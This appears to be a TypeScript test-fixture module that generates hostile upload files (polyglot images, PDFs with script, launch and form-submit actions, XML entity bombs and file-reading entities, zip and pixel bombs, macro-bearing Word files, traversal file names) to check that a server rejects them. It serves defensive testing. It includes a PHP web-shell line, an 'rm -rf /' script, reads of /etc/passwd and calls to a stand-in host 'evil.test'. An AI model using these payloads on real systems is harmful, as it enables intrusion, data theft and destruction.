/** Hostile files, generated here; none may be stored or stop the server. */
import { createCipheriv, randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { IMPORT_COLUMNS } from '@vigilia/contract/users/user-import';
import {
  aCompoundFile,
  aDoc,
  aDocx,
  aPdf,
  aPdfWith,
  aZip,
  streamOf,
  WORD_PARTS,
} from '../builders/documents.ts';
import { anSvgWithScript, aPicture, aPixelBomb, aPngOf, aWebPage } from '../builders/pictures.ts';
import { aWorkbook } from '../builders/workbooks.ts';
import type { FilePart } from '../multipart.ts';

export interface HostileFile extends FilePart {
  /** The defect. */
  readonly what: string;
}

const MEBIBYTE = 1024 * 1024;
const SCRIPT = '<script>alert(document.domain)</script>';
const PAGE = `<!doctype html><html><body>${SCRIPT}</body></html>`;

const TYPES: Readonly<Record<string, string>> = {
  jpg: 'image/jpeg',
  png: 'image/png',
  gif: 'image/gif',
  webp: 'image/webp',
  svg: 'image/svg+xml',
  pdf: 'application/pdf',
  doc: 'application/msword',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  csv: 'text/csv',
  html: 'text/html',
  zip: 'application/zip',
};

type Content = Buffer | string;

/** @param content a large one is made where it is sent: a quick run sends few */
const file = (what: string, name: string, content: Content | (() => Content), type?: string): HostileFile => {
  const ending = name.split('.').at(-1)?.toLowerCase() ?? '';
  return {
    what,
    name,
    type: type ?? TYPES[ending] ?? 'application/octet-stream',
    get content() {
      return typeof content === 'function' ? content() : content;
    },
  };
};

/** Names that mean another place or another kind of file; each on a valid file. */
const nastyNames = (ending: string): readonly (readonly [what: string, name: string])[] => [
  ['a name that climbs', `../../../../tmp/x.${ending}`],
  ['a name that climbs, as Windows writes it', `..\\..\\x.${ending}`],
  ['an absolute name', `/etc/cron.d/x.${ending}`],
  ['an absolute name of Windows', `C:\\x.${ending}`],
  ['a NUL in its name', `x.php\0.${ending}`],
  ['a line break in its name', `x\u0001.${ending}`],
  ['a double ending', `x.php.${ending}`],
  ['a double ending of a page', `x.html.${ending}`],
  ['a double ending of a program', `x.exe.${ending}`],
  ['a name that reads backwards', `x\u202egpj.exe.${ending}`],
  ['a name that hides its direction', `x\u2066.${ending}`],
  ['an ending that runs', `x.${ending}.php`],
  ['an ending that is a page', `x.${ending}.svg`],
  ['a name that configures a server', '.htaccess'],
  ['no name', ''],
  ['only an ending', `.${ending}`],
  ['an ending in disguise', `x.${ending}\u200f`],
];

/** A valid file truncated at each eighth of its length. */
const cut = (what: string, name: string, content: Buffer): HostileFile[] =>
  Array.from({ length: 7 }, (_, eighth) => {
    const end = Math.floor((content.length * (eighth + 1)) / 8);
    return file(`${what} cut after ${eighth + 1} eighths`, name, content.subarray(0, end));
  });

/** The same bytes under every ending but its own. */
const disguised = (what: string, content: Buffer | string, endings: readonly string[]): HostileFile[] =>
  endings.map((ending) => file(`${what} as .${ending}`, `x.${ending}`, content));

/** An object stream with objects that are nowhere else in the file. */
const objectStream = (objects: string, pack: (bytes: Buffer) => Buffer, filter: string): string =>
  streamOf(`/Type/ObjStm/N 1/First 5${filter}`, pack(Buffer.from(`11 0 ${objects}`, 'latin1')));

const ACTION = '<</Type/Action/S/JavaScript/JS(app.alert(1))>>';

const activePdfs = (): HostileFile[] => [
  file('a PDF that runs a script when it is opened', 'x.pdf', aPdfWith(`/OpenAction${ACTION}`)),
  file(
    'a PDF with its script spelt in codes',
    'x.pdf',
    aPdfWith('/OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>'),
  ),
  file(
    'a PDF with named scripts',
    'x.pdf',
    aPdfWith('/Names<</JavaScript 10 0 R>>', '<</Names[(a) 11 0 R]>>', ACTION),
  ),
  file('a PDF that starts a program', 'x.pdf', aPdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')),
  file(
    'a PDF that starts a program for a page',
    'x.pdf',
    aPdfWith('/AA<</O<</S /Launch /Win <</F (calc.exe)>>>>>>'),
  ),
  file(
    'a PDF that carries a file',
    'x.pdf',
    aPdfWith('/Names<</EmbeddedFiles 10 0 R>>', streamOf('/Type/EmbeddedFile', Buffer.from('MZ'))),
  ),
  file('a PDF that sends a form', 'x.pdf', aPdfWith('/OpenAction<</S/SubmitForm/F(https://evil.test)>>')),
  file('a PDF that reads in data', 'x.pdf', aPdfWith('/OpenAction<</S/ImportData/F(/etc/passwd)>>')),
  file(
    'a PDF that opens another',
    'x.pdf',
    aPdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\a.pdf)/D[0]>>'),
  ),
  file(
    'a PDF with an XFA form',
    'x.pdf',
    aPdfWith('/AcroForm<</XFA 10 0 R>>', streamOf('', Buffer.from('<xdp:xdp/>'))),
  ),
  file('a PDF with rich media', 'x.pdf', aPdfWith('', '<</Type/Annot/Subtype/RichMedia>>')),
  file(
    'a PDF with its script in an object stream',
    'x.pdf',
    aPdfWith('/OpenAction 11 0 R', objectStream(ACTION, deflateSync, '/Filter/FlateDecode')),
  ),
  file(
    'a PDF with its script in an object stream that is not packed',
    'x.pdf',
    aPdfWith(
      '/OpenAction 11 0 R',
      objectStream(ACTION, (bytes) => bytes, ''),
    ),
  ),
  file(
    'a PDF with an object stream in an unused encoding',
    'x.pdf',
    aPdfWith(
      '/OpenAction 11 0 R',
      objectStream(ACTION, (bytes) => Buffer.from(`${bytes.toString('hex')}>`), '/Filter/ASCIIHexDecode'),
    ),
  ),
  file('a PDF with an object stream that unpacks to too much', 'x.pdf', () =>
    aPdfWith(
      '/OpenAction 11 0 R',
      objectStream(' '.repeat(60 * MEBIBYTE), deflateSync, '/Filter/FlateDecode'),
    ),
  ),
  file(
    'a PDF that is encrypted, so that it cannot be checked',
    'x.pdf',
    Buffer.from(
      aPdf()
        .toString('latin1')
        .replace('trailer<<', () => 'trailer<</Encrypt 9 0 R'),
      'latin1',
    ),
  ),
  file(
    'a PDF that is a page too',
    'x.pdf',
    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(PAGE), aPdf()]),
  ),
  file(
    'a PDF that is a ZIP too',
    'x.pdf',
    Buffer.concat([aPdf(), aZip({ 'a.exe': 'MZ' }), Buffer.from('\nstartxref\n0\n%%EOF')]),
  ),
];

const polyglots = async (): Promise<HostileFile[]> => {
  const jpeg = await aPicture('jpeg');
  const png = await aPicture('png');
  const comment = Buffer.from(PAGE);
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  const withComment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    comment,
    jpeg.subarray(2),
  ]);
  return [
    file('a GIF that is a script too', 'x.gif', Buffer.from(`GIF89a/*${'a'.repeat(40)}*/=1;alert(1)//;`)),
    file('a JPEG that is a ZIP too', 'x.jpg', Buffer.concat([jpeg, aZip({ 'a.exe': 'MZ' })])),
    file('a JPEG with a page in its comment', 'x.jpg', withComment),
    file('a JPEG with a page behind it', 'x.jpg', Buffer.concat([jpeg, Buffer.from(PAGE)])),
    file('a JPEG with PHP behind it', 'x.jpg', Buffer.concat([jpeg, Buffer.from('<?php system($_GET[0]);')])),
    file('a PNG with a page behind it', 'x.png', Buffer.concat([png, Buffer.from(PAGE)])),
    file('a PNG that is a ZIP too', 'x.png', Buffer.concat([png, aZip({ 'a.exe': 'MZ' })])),
    file('a JPEG that is a PDF too', 'x.jpg', Buffer.concat([jpeg, aPdf()])),
  ];
};

/** XML that grows a thousandfold with each of its entities. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY ${'bcdefghij'[level]} "${`&${'abcdefghi'[level]};`.repeat(10)}">`,
).join('')}]>`;
const EXTERNAL = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>';

const sheet = (head: string, text: string) =>
  `${head}<worksheet><sheetData><row><c t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;

const aBook = (xml: string) => aWorkbook({ rows: '', more: { 'xl/worksheets/sheet1.xml': xml } });

const hostileTables = (): HostileFile[] => {
  const bomb = () => Buffer.alloc(80 * MEBIBYTE, 0x20);
  const headings = Object.values(IMPORT_COLUMNS);
  const row = (cells: readonly string[]) =>
    `<row>${cells.map((cell) => `<c t="str"><v>${cell}</v></c>`).join('')}</row>`;
  const person = ['Ana', 'Ríos', 'ana@x.test', '300', '', '1'];
  return [
    file('a workbook of laughs', 'x.xlsx', aBook(sheet(LAUGHS, '&j;'))),
    file('a workbook that reads a file', 'x.xlsx', aBook(sheet(EXTERNAL, '&a;'))),
    file(
      'a workbook whose shared texts are laughs',
      'x.xlsx',
      aWorkbook({
        rows: row(headings),
        more: { 'xl/sharedStrings.xml': `${LAUGHS}<sst><si><t>&j;</t></si></sst>` },
      }),
    ),
    file('a workbook that unpacks to too much', 'x.xlsx', () =>
      aWorkbook({ rows: row(headings), more: { 'xl/sharedStrings.xml': bomb() } }),
    ),
    file('a workbook with deep XML', 'x.xlsx', () => aBook(sheet('', '<a>'.repeat(200_000)))),
    file(
      'a workbook with a row far down',
      'x.xlsx',
      aWorkbook({ rows: '<row r="99999999"><c t="str"><v>a</v></c></row>' }),
    ),
    file('a workbook without a sheet', 'x.xlsx', aZip({ 'xl/workbook.xml': '<workbook/>' })),
    file(
      'a ZIP of ZIPs',
      'x.xlsx',
      aZip({ 'a.zip': aZip({ 'b.zip': aZip({ c: Buffer.alloc(MEBIBYTE) }) }) }),
    ),
    file('a ZIP with names that climb', 'x.xlsx', aZip({ '../../x': 'a', '/etc/x': 'b' })),
    file('gzip', 'x.xlsx', () => gzipSync(bomb())),
    file('gzip as text', 'x.csv', () => gzipSync(bomb())),
    file('text with a NUL', 'x.csv', `${headings.join(';')}\r\nA\0na;b;c;d;e;f`),
    file('a quote that never ends', 'x.csv', `"${'a;'.repeat(100_000)}`),
    file('a line of a million columns', 'x.csv', ';'.repeat(MEBIBYTE)),
    file(
      'more lines than any association has members',
      'x.csv',
      `${headings.join(';')}\r\n${`${person.join(';')}\r\n`.repeat(20_000)}`,
    ),
    file('the old format of Excel', 'x.xls', aCompoundFile({ Workbook: Buffer.alloc(1) })),
    file('the old format under the new name', 'x.xlsx', aCompoundFile({ Workbook: Buffer.alloc(1) })),
    file('a page of Excel', 'x.csv', aPicturelike()),
    file('headings that are an object’s own', 'x.csv', '__proto__;constructor;toString\r\n1;2;3'),
  ];
};

/** Bytes that are invalid in every supported encoding. */
const aPicturelike = (): Buffer => {
  const cipher = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16));
  return Buffer.concat([Buffer.from([0]), cipher.update(Buffer.alloc(4096))]);
};

const hostileWord = (): HostileFile[] => {
  const withPart = (name: string, content: string | Buffer = 'x') => aZip({ ...WORD_PARTS, [name]: content });
  const relations = (target: string, mode: string) =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}"${mode}/></Relationships>`;
  return [
    file('Word with macros', 'x.docx', withPart('word/vbaProject.bin')),
    file('Word with a control', 'x.docx', withPart('word/activeX/activeX1.bin')),
    file('Word with an object of another program', 'x.docx', withPart('word/embeddings/oleObject1.bin')),
    file('Word with a program', 'x.docx', withPart('word/media/a.exe')),
    file(
      'Word with an external template',
      'x.docx',
      withPart(
        'word/_rels/settings.xml.rels',
        relations('https://evil.test/a.dotm', ' TargetMode="External"'),
      ),
    ),
    file('Word that unpacks to too much', 'x.docx', () =>
      aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) }),
    ),
    file('Word that lies of its size', 'x.docx', () =>
      aZip({ ...WORD_PARTS, 'word/document.xml': Buffer.alloc(60 * MEBIBYTE, 0x20) }, 10),
    ),
    file('old Word with macros', 'x.doc', aDoc({ streams: { 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(1) } })),
    file('an installer', 'x.doc', aCompoundFile({ Installer: Buffer.alloc(1) })),
  ];
};

const pixelBombs = (): HostileFile[] => [
  file('a PNG of 50,000 × 50,000 pixels', 'x.png', aPixelBomb()),
  file('a PNG of 2,147,483,647 × 1 pixels', 'x.png', aPixelBomb(2 ** 31 - 1, 1)),
  file('a PNG of no pixels', 'x.png', aPixelBomb(0, 0)),
  file('a PNG of 20,000 × 20,000 pixels that are there', 'x.png', () => aPngOf(20_000, 20_000)),
  file(
    'a GIF of 65,535 × 65,535 pixels',
    'x.gif',
    Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff000002024401003b', 'hex'),
  ),
  file(
    'a WebP that claims to be huge',
    'x.webp',
    Buffer.concat([
      Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8X\n\0\0\0\0\0\0\0', 'latin1'),
      Buffer.alloc(6, 0xff),
    ]),
  ),
  file('an SVG of laughs', 'x.svg', `${LAUGHS}<svg xmlns="http://www.w3.org/2000/svg">&j;</svg>`),
];

const svgs = (): HostileFile[] => [
  ...disguised('an SVG with a script', anSvgWithScript, [
    'svg',
    'png',
    'jpg',
    'webp',
    'gif',
    'pdf',
    'docx',
    'csv',
  ]),
  file('an SVG with a script that says it is a PNG', 'x.png', anSvgWithScript, 'image/png'),
  file('an SVG that loads', 'x.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  file(
    'an SVG that reads a file',
    'x.svg',
    `${EXTERNAL}<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`,
  ),
  file('an SVG behind a mark', 'x.jpg', Buffer.concat([Buffer.from('\ufeff'), anSvgWithScript])),
  file('an SVG that is packed', 'x.svgz', gzipSync(anSvgWithScript)),
];

const others = (): HostileFile[] => [
  ...disguised('nothing', Buffer.alloc(0), ['jpg', 'png', 'pdf', 'docx', 'doc', 'csv', 'xlsx']),
  ...disguised('one byte', Buffer.from([0xff]), ['jpg', 'png', 'pdf', 'docx', 'xlsx']),
  ...disguised('zeros', Buffer.alloc(5000), ['jpg', 'png', 'pdf', 'doc', 'docx', 'csv', 'xlsx']),
  ...disguised('chance', randomBytes(5000), ['jpg', 'png', 'pdf', 'doc', 'docx', 'xlsx']),
  ...disguised('a page', aWebPage, ['jpg', 'png', 'pdf', 'doc', 'docx', 'xlsx', 'html']),
  ...disguised('a program of Windows', Buffer.from(`MZ${'\0'.repeat(500)}PE\0\0`), [
    'jpg',
    'pdf',
    'docx',
    'xlsx',
    'exe',
  ]),
  ...disguised('a program of Linux', Buffer.from(`\x7fELF${'\0'.repeat(500)}`, 'latin1'), [
    'jpg',
    'pdf',
    'xlsx',
    'sh',
  ]),
  ...disguised('a shell script', '#!/bin/sh\nrm -rf /\n', ['jpg', 'pdf', 'docx', 'sh']),
  ...disguised('a ZIP', aZip({ a: 'b' }), ['jpg', 'png', 'pdf', 'docx', 'xlsx', 'zip']),
  ...disguised('bare deflated bytes', deflateRawSync(Buffer.alloc(MEBIBYTE)), ['jpg', 'pdf', 'xlsx']),
  ...disguised('a video', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), [
    'jpg',
    'png',
    'avif',
    'pdf',
  ]),
  ...disguised('a PDF', aPdf(), ['jpg', 'doc', 'docx', 'xlsx', 'csv', 'html']),
  ...disguised('Word', aDocx(), ['jpg', 'pdf', 'doc', 'xlsx', 'csv']),
  ...disguised('old Word', aDoc(), ['jpg', 'pdf', 'docx', 'xlsx', 'csv']),
];

/** Every file with its defect. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png] = [await aPicture('jpeg'), await aPicture('png')];
  const table = aWorkbook({ rows: '<row><c t="str"><v>Nombre</v></c></row>' });
  return [
    ...(await polyglots()),
    ...svgs(),
    ...pixelBombs(),
    ...activePdfs(),
    ...hostileWord(),
    ...hostileTables(),
    ...others(),
    ...cut('a JPEG', 'x.jpg', jpeg),
    ...cut('a PNG', 'x.png', png),
    ...cut('a PDF', 'x.pdf', aPdf()),
    ...cut('Word', 'x.docx', aDocx()),
    ...cut('a workbook', 'x.xlsx', table),
    ...nastyNames('jpg').map(([what, name]) => file(`jpg: ${what}`, name, jpeg, 'image/jpeg')),
    ...nastyNames('pdf').map(([what, name]) => file(`pdf: ${what}`, name, aPdf(), 'application/pdf')),
    ...nastyNames('csv').map(([what, name]) =>
      file(`csv: ${what}`, name, 'Nombre;Apellido\r\nAna;Ríos', 'text/csv'),
    ),
  ];
}
